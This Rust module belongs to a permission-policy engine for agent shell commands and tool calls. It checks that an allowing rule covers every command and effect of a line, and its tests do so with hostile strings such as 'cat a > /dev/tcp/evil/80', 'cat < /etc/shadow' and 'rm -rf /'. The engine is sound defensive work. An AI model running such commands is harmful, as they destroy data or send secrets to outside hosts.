//! The scope of a rule that allows.
//!
//! Such a rule must cover every command of a line by itself ([`Parts`](super::parts::Parts)): `cat
//! src/a; curl x` isn't covered by a grant of `src`. It must also cover every effect of the action
//! ([`uncovered_effect`]): a grant of a host doesn't grant the file that is written. So a line
//! never gets a more permissive effect than one of its commands.

use super::condition::{Condition, Predicate};
use super::effect::Tristate;
use super::facts::Facts;
use super::request::Request;
use shell_effects::{Effect, EffectKind};

/// The kinds of effects that a set of conditions grants, as bits.
pub(crate) type GrantSet = u8;
const PATHS: GrantSet = 1;
const HOSTS: GrantSet = 2;
const PROGRAMS: GrantSet = 4;
const EVERYTHING: GrantSet = 8;

/// The possible grant sets of a condition: bit `n` stands for the set `n`. Each alternative has its
/// own.
pub(crate) type GrantAlternatives = u16;
/// The condition names no effects, only the action as a whole.
const NO_EFFECTS: GrantAlternatives = 1;
/// One of the sets is empty or contains [`EVERYTHING`]: no effect needs a check.
pub(crate) const UNRESTRICTED: GrantAlternatives = 0xff01;

/// The first effect that a rule which allows doesn't cover, though its condition holds.
pub(crate) fn uncovered_effect<'f>(
    when: &Condition,
    facts: &'f Facts<'_>,
    request: &Request<'_>,
) -> Option<UncoveredEffect<'f>> {
    let alternatives = grant_alternatives(when, facts, request, true);
    if alternatives & UNRESTRICTED != 0 {
        return None;
    }
    let mut first = None;
    for set in (0..16u8).filter(|set| alternatives & (1 << set) != 0) {
        match first_outside(set, facts) {
            None => return None,
            Some(effect) => first = first.or(Some(UncoveredEffect { set, effect })),
        }
    }
    first
}

/// An effect outside the scope of a rule that allows.
pub(crate) struct UncoveredEffect<'f> {
    set: GrantSet,
    effect: &'f Effect,
}

impl std::fmt::Display for UncoveredEffect<'_> {
    /// May contain hostile text.
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let named = [(PATHS, "paths"), (HOSTS, "hosts"), (PROGRAMS, "programs")];
        let named: Vec<&str> = named
            .iter()
            .filter(|(bit, _)| self.set & bit != 0)
            .map(|(_, name)| *name)
            .collect();
        write!(
            f,
            "it speaks of {}, and not of the effect {}",
            named.join(" and "),
            self.effect.kind.as_str()
        )?;
        if let Some(target) = &self.effect.target {
            write!(f, " `{target}`")?;
        }
        f.write_str(", which the action has as well")
    }
}

fn product(one: GrantAlternatives, other: GrantAlternatives) -> GrantAlternatives {
    // The common case, evaluated for every rule that allows.
    if one == NO_EFFECTS || other == NO_EFFECTS {
        return if one == NO_EFFECTS { other } else { one };
    }
    let sets = |alternatives: GrantAlternatives| {
        (0..16u16).filter(move |set| alternatives & (1 << set) != 0)
    };
    sets(one).fold(0, |all, a| {
        sets(other).fold(all, |all, b| all | 1 << (a | b))
    })
}

/// The grant sets of a condition that holds. `positive` is false inside `not`, which grants
/// nothing.
fn grant_alternatives(
    when: &Condition,
    facts: &Facts<'_>,
    request: &Request<'_>,
    positive: bool,
) -> GrantAlternatives {
    match (when, positive) {
        (Condition::Not(inner), _) => grant_alternatives(inner, facts, request, !positive),
        (Condition::All(list), true) | (Condition::Any(list), false) => {
            list.iter().fold(NO_EFFECTS, |all, part| {
                product(all, grant_alternatives(part, facts, request, positive))
            })
        }
        (Condition::Any(list), true) | (Condition::All(list), false) => {
            let wanted = if positive {
                Tristate::Yes
            } else {
                Tristate::No
            };
            let holding = list
                .iter()
                .filter(|part| part.holds(facts, request, positive) == wanted);
            holding.fold(0, |all, part| {
                all | grant_alternatives(part, facts, request, positive)
            })
        }
        (Condition::Is(..), false) => NO_EFFECTS,
        (Condition::Is(predicate, _), true) => 1 << granted(predicate),
    }
}

/// The grant set of a key.
pub(crate) fn granted(predicate: &Predicate) -> GrantSet {
    match predicate {
        Predicate::Path(_) => PATHS,
        Predicate::Host(_) | Predicate::Network(_) => HOSTS,
        Predicate::Command(test) if test.covers_programs() => PROGRAMS,
        Predicate::Effects(_) | Predicate::Category(_) | Predicate::Granted(_) => EVERYTHING,
        Predicate::Command(_)
        | Predicate::Type(_)
        | Predicate::Tool(_)
        | Predicate::Risk(_)
        | Predicate::Agent(_)
        | Predicate::Mode(_)
        | Predicate::Production(_)
        | Predicate::Turn(_)
        | Predicate::Pattern(_)
        | Predicate::ApprovedBefore
        | Predicate::UsedUp(_) => 0,
    }
}

/// The first effect outside a grant set.
pub(crate) fn first_outside<'f>(set: GrantSet, facts: &'f Facts<'_>) -> Option<&'f Effect> {
    if set == 0 || set & EVERYTHING != 0 {
        return None;
    }
    let spoken = |(index, effect): (usize, &Effect)| {
        let path = || {
            matches!(
                effect.kind,
                EffectKind::Read | EffectKind::Write | EffectKind::Delete
            ) && facts.touches_path(index)
        };
        set & PATHS != 0 && path()
            || set & HOSTS != 0 && effect.kind == EffectKind::Network
            || set & PROGRAMS != 0 && facts.is_of_program(index, effect)
    };
    facts
        .analysis()
        .effects
        .iter()
        .enumerate()
        .find(|one| !spoken(*one))
        .map(|(_, effect)| effect)
}

#[cfg(test)]
mod tests {
    use crate::{Action, Effect, History, Policy, Request, load};
    use proptest::prelude::*;
    use serde_json::json;

    fn pack(rules: &[(&str, &str)]) -> Policy {
        let mut text =
            "version: 1\nid: p\ncombine: deny-overrides\ndefault: { effect: require_approval, reason: d }\nrules:\n".to_owned();
        for (n, (when, effect)) in rules.iter().enumerate() {
            text.push_str(&format!(
                "  - {{ id: r{n}, when: {{ {when} }}, effect: {effect}, reason: r }}\n"
            ));
        }
        load("p", &text).unwrap()
    }

    fn ask(policy: &Policy, action: &Action) -> Effect {
        policy
            .decide(&Request::new(action, &History::default()))
            .effect
    }

    fn allowed(when: &str, command: &str) -> bool {
        ask(&pack(&[(when, "allow")]), &Action::shell(command)) == Effect::Allow
    }

    #[test]
    fn of_two_names_of_a_tool_both_count() {
        let two = Action::recorded(
            "tool_call",
            json!({"tool": "read_file", "tool_name": "delete_file", "parameters": {}}),
        );
        for name in ["read_file", "delete_file"] {
            assert_eq!(
                ask(&pack(&[(&format!("tool: {name}"), "deny")]), &two),
                Effect::Deny,
                "{name}"
            );
            assert_ne!(
                ask(&pack(&[(&format!("tool: {name}"), "allow")]), &two),
                Effect::Allow,
                "{name}"
            );
        }
    }

    #[test]
    fn who_allows_one_thing_has_not_allowed_another() {
        let host = "host: good.com";
        assert!(
            allowed(host, "curl http://good.com")
                && allowed(host, "curl http://good.com; curl http://good.com/x")
        );
        for line in [
            "curl http://good.com; rm -rf /",
            "curl http://good.com -o /etc/x",
            "scp a good.com:",
            "curl http://good.com; true",
        ] {
            assert!(!allowed(host, line), "{line}");
        }
        let path = "path: { glob: 'src/**' }";
        assert!(
            allowed(path, "cat src/a")
                && allowed(path, "cp src/a src/b > src/c")
                && allowed(path, "cat src/a | tee src/b")
        );
        assert!(
            !allowed(path, "cat src/a; true"),
            "alone it isn't about `src` either"
        );
        for tail in ["curl http://x", "sudo id", "git push --force", "npm test"] {
            assert!(!allowed(path, &format!("cat src/a; {tail}")), "{tail}");
            assert!(!allowed(path, &format!("{tail} > src/a")), "{tail}");
        }
        let ls = "command: { program: [ls, cat] }";
        assert!(
            allowed(ls, "ls -l src; cat a")
                && allowed(ls, "sh -c 'cat a'") == allowed(ls, "sh -c 'ls a'")
        );
        for line in [
            "ls > /etc/x",
            "cat a > /dev/tcp/evil/80",
            "cat < /etc/shadow",
            "(ls; ls) > x",
            "ls 2> x",
            "ls {fd}> x",
            "ls &> x",
        ] {
            assert!(!allowed(ls, line), "{line}");
        }
        let code = "command: { program: [cat, bash, sh, eval] }";
        assert!(allowed(code, "sh -c 'cat a b'"));
        for line in [
            "sh -c 'cat a > b'",
            "bash <<< 'cat a > b'",
            "eval 'cat a > b'",
            "bash -c \"cat a > \\\"b\\\"\"",
        ] {
            assert!(!allowed(code, line), "{line}");
        }
        assert!(allowed(
            "command: { raw: '^git (status|log)' }",
            "git status; git log"
        ));
        assert!(!allowed(
            "command: { raw: '^git status' }",
            "git status; rm -rf /"
        ));
        assert!(!allowed(
            "type: shell_cmd, pattern: 'git status'",
            "git status && rm -rf /"
        ));
    }

    #[test]
    fn conditions_together_speak_of_more_and_alternatives_each_for_itself() {
        let both = "host: good.com, path: { glob: 'src/**' }";
        assert!(
            allowed(both, "curl http://good.com -o src/a")
                && !allowed(both, "curl http://good.com -o docs/a")
        );
        assert!(allowed(
            "host: good.com, effects: [network, write]",
            "curl http://good.com -o a"
        ));
        assert!(!allowed(
            "host: good.com, type: shell_cmd, risk: [low, medium]",
            "curl http://good.com -o a"
        ));
        assert!(!allowed(
            "host: good.com, not: { effects: [delete] }",
            "curl http://good.com -o a"
        ));
        assert!(!allowed(
            "not: { not: { host: good.com } }",
            "curl http://good.com -o a"
        ));
        let either = "any: [{ host: good.com }, { path: { glob: 'src/**' } }]";
        assert!(allowed(either, "cat src/a") && !allowed(either, "curl http://good.com -o src/a"));
        assert!(allowed(
            "path: { glob: 'src/**' }, command: { program: cat }",
            "cat src/a > src/b"
        ));
        assert!(
            allowed("type: shell_cmd", "ls > a")
                && allowed("risk: low", "ls")
                && allowed("not: { effects: [delete] }", "ls > a")
        );
    }

    #[test]
    fn a_tool_does_more_than_its_command() {
        let git = pack(&[("type: tool_call, command: { program: [git, cat] }", "allow")]);
        let call = |tool: &str, input| ask(&git, &Action::call(tool, input));
        assert_eq!(
            call("bash_execute", json!({"command": "git status"})),
            Effect::Allow
        );
        assert_eq!(
            call("bash_execute", json!({"command": "cat a"})),
            Effect::Allow
        );
        assert_eq!(
            call("bash_execute", json!({"command": "cat a > /etc/x"})),
            Effect::RequireApproval
        );
        assert_eq!(
            call("git_push", json!({"command": "git status"})),
            Effect::RequireApproval
        );
        assert_eq!(
            call("write_file", json!({"command": "cat a", "path": "/etc/x"})),
            Effect::RequireApproval
        );
    }

    #[test]
    fn scopes_allow_changes_in_them_and_nothing_beside() {
        let scopes =
            load("s", "scopes: [{ id: a, allow: ['src/**'] }]\nrules: [{ id: r, scope: a, action: block, reason: r }]\n")
                .unwrap();
        let shell = |line: &str| ask(&scopes, &Action::shell(line));
        assert_eq!(shell("echo x > src/a"), Effect::Allow);
        assert_eq!(shell("echo x > src/a; sudo id"), Effect::RequireApproval);
        assert_ne!(shell("npm test > src/a"), Effect::Allow);
    }

    #[test]
    fn the_account_says_what_is_not_covered() {
        let why = |when: &str, line: &str| {
            let (policy, action) = (pack(&[(when, "allow")]), Action::shell(line));
            policy
                .explain(&Request::new(&action, &History::default()))
                .remove(0)
                .why
        };
        assert_eq!(
            why("host: good.com", "curl http://good.com -o /etc/x"),
            "every condition holds, but it speaks of hosts, and not of the effect write `/etc/x`, which the action has as well"
        );
        let text = why("path: { glob: 'src/**' }", "cat src/a; sudo id");
        assert!(
            text.ends_with("the paths are read `src/a`; `sudo id` touches no path"),
            "{text}"
        );
    }

    /// Conditions of one dimension each.
    const WHENS: [&str; 16] = [
        "host: good.com",
        "host: ['*.good.com', good.com]",
        "path: { glob: 'src/**' }",
        "path: { outside_workdir: false }",
        "path: { glob: 'src/**', access: [read] }",
        "path: { except: ['*.pem'], access: [write, read] }",
        "command: { program: [ls, cat, echo] }",
        "command: { program: curl }",
        "command: { arg: ['-l', '--', src/a] }",
        "command: { raw: '^(ls|cat|curl)' }",
        "pattern: 'src|true'",
        "effects: [read, network]",
        "category: [execute, read]",
        "risk: low",
        "risk: medium",
        "type: shell_cmd",
    ];

    fn simple() -> impl Strategy<Value = String> + Clone {
        const COMMANDS: [&str; 24] = [
            "ls",
            "ls -l src",
            "cat src/a",
            "cat /etc/passwd",
            "true",
            "echo hi",
            "curl http://good.com",
            "curl http://good.com -o src/x",
            "curl http://evil.com",
            "scp src/a good.com:",
            "sudo id",
            "git push --force",
            "git status",
            "rm src/a",
            "rm -rf /",
            "npm test",
            "cat a.pem",
            "sh -c 'cat src/a > b'",
            "(cat src/a; ls)",
            "echo $(cat src/a)",
            "$X",
            "cat *",
            "frobnicate src/a",
            "touch src/a",
        ];
        let redirection = proptest::sample::select(vec![
            "",
            "",
            "",
            " > src/b",
            " > /etc/x",
            " < src/a",
            " > /dev/tcp/evil/80",
            " 2> /dev/null",
        ]);
        (proptest::sample::select(COMMANDS.to_vec()), redirection).prop_map(|(command, to)| {
            // What a command that prints nothing makes empty was perhaps made by the command before
            // it, and is no loss then.
            if matches!(command, "true" | "sh -c 'cat src/a > b'") {
                command.to_owned()
            } else {
                format!("{command}{to}")
            }
        })
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

        #[test]
        fn a_line_is_at_least_as_strict_as_its_strictest_command(
            allow in proptest::sample::subsequence(WHENS.to_vec(), 1..3),
            deny in proptest::sample::select(WHENS[..12].to_vec()),
            kind in 0u8..3,
            (a, b) in (simple(), simple()),
            separator in proptest::sample::select(vec!["; ", " && ", " | ", " || ", "\n", " & "]),
        ) {
            let inverted = format!("not: {{ {deny} }}");
            let mut rules: Vec<(&str, &str)> = allow.iter().map(|when| (*when, "allow")).collect();
            match kind {
                0 => {}
                1 => rules.push((&inverted, "allow")),
                _ => rules.push((&inverted, "deny")),
            }
            // What isn't searched for a text: `not` of one is about the text as a whole.
            prop_assume!(kind == 0 || !deny.contains("raw") && !deny.contains("pattern"));
            // A text that has to begin in some way doesn't begin with the bracket of a group.
            let of_text = allow.iter().any(|when| when.contains("raw") || when.contains("pattern"));
            prop_assume!(!of_text || !a.contains('(') && !b.contains('('));
            let policy = pack(&rules);
            let apart = ask(&policy, &Action::shell(&a)).max(ask(&policy, &Action::shell(&b)));
            let together = ask(&policy, &Action::shell(&format!("{a}{separator}{b}")));
            prop_assert!(together >= apart, "{rules:?}: {together} for `{a}{separator}{b}`, {apart} apart");
        }

        #[test]
        fn alternatives_and_conjunctions_compose_too(
            parts in proptest::sample::subsequence(WHENS[..9].to_vec(), 2..4),
            any in any::<bool>(),
            (a, b) in (simple(), simple()),
        ) {
            let list: Vec<String> = parts.iter().map(|part| format!("{{ {part} }}")).collect();
            let when = format!("{}: [{}]", if any { "any" } else { "all" }, list.join(", "));
            let together = allowed(&when, &format!("{a}; {b}"));
            prop_assert!(!together || allowed(&when, &a) && allowed(&when, &b), "{when}: `{a}; {b}`");
        }
    }
}
